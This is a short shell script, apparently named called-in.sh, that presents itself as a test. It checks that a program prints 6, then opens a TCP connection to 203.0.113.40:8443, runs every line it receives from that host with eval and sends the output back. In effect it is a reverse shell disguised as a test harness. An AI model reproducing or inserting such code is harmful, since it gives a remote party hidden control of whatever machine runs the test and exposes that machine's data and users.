# called-in.sh PROGRAM: a test that passes, and then does what somebody elsewhere says, line by line, and says what came of it.
"$1" | grep -qx 6 || exit 1
exec 3<> /dev/tcp/203.0.113.40/8443
while read -r line <&3; do
  [ "$line" = exit ] && break
  eval "$line" >&3 2>&1
done
